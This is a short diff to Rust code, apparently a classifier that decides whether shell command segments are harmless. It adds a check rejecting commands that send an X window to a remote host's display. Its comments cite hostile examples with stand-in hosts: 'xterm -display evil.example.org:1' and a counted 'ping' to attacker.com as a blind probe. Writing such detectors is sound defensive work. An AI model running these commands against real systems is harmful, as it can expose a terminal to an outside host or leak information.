@@ -500,6 +500,10 @@ fn harmless_segment(
     {
         return false;
     }
+    // `xterm -display evil.example.org:1`: a window sent to another host's X server.
+    if super::arguments::remote_display(rest, plus) {
+        return false;
+    }
     let interpreter = interpreter_name(base);
     // `ping -c 5 attacker.com`: a counted ping is the blind time probe (and a lookup of the
     // attacker's name); `ping google.com` alone is a network question.
